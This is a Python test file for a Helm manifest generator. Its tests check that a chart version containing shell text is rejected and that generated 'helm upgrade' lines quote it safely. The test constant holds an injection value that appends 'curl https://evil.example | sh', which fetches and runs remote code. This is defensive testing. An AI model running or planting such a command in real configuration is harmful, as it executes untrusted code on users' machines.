"""Values that reach a command line people paste are validated as what they are, then quoted for the shell."""

from __future__ import annotations

import shlex

import pytest

from eksnet_manifests.errors import SpecError
from eksnet_manifests.profile.load import parse_profile
from eksnet_manifests.synth.helm.external_dns_values import build_external_dns_values
from eksnet_manifests.synth.helm.lbc_values import build_lbc_values

SHELL_TEXT = "3.1.0; curl https://evil.example | sh"


def _helm_line(header: str) -> list[str]:
    line = next(line for line in header.splitlines() if line.startswith("helm upgrade"))
    return shlex.split(line)


@pytest.mark.parametrize("section", ["loadBalancerController", "externalDns"])
def test_chart_version_with_shell_text_is_refused(section: str) -> None:
    text = (
        "cluster: {name: c, region: us-east-1, vpcId: vpc-0123456789abcdef0}\n"
        "nodeGroups: [{name: a, instanceType: t3.medium, desiredSize: 1}]\n"
        f"{section}: {{chartVersion: '{SHELL_TEXT}'}}\napps: []\n"
    )
    with pytest.raises(SpecError) as caught:
        parse_profile(text, "eksnet.yaml")
    assert caught.value.location.field == f"{section}.chartVersion"
    assert "Helm chart version" in caught.value.message


@pytest.mark.parametrize(
    ("build", "section"),
    [(build_lbc_values, "load_balancer_controller"), (build_external_dns_values, "external_dns")],
)
def test_helm_command_line_keeps_a_value_one_word(lab_profile, build, section: str) -> None:
    # GIVEN a chart version that got past validation (defence in depth: the header quotes it anyway)
    original = getattr(lab_profile, section)
    # ExternalDNS's release is read from its chart version unless pinned: pin it to the lab's
    release = {"version": original.release} if section == "external_dns" else {}
    controller = original.model_copy(update={"chart_version": SHELL_TEXT, **release})
    profile = lab_profile.model_copy(update={section: controller})
    # WHEN the values file header is written THEN the shell reads the version as one argument
    words = _helm_line(build(profile).header)
    assert words[words.index("--version") + 1] == SHELL_TEXT
    assert "sh" not in words
